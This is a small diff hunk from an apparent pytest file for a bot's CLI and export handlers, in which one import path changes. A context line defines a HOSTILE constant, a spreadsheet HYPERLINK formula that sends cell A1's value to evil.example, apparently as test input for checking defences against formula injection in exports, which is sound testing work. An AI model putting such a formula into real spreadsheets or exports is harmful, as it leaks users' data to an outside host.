@@ -12,7 +12,7 @@ import pytest
 
 from bot import dora
 from handlers import cli, exports
-from tests.fakes.schedule import START, ManualClock
+from fakes.schedule import START, ManualClock
 from tests.unit.test_cli_inputs import Terminal
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
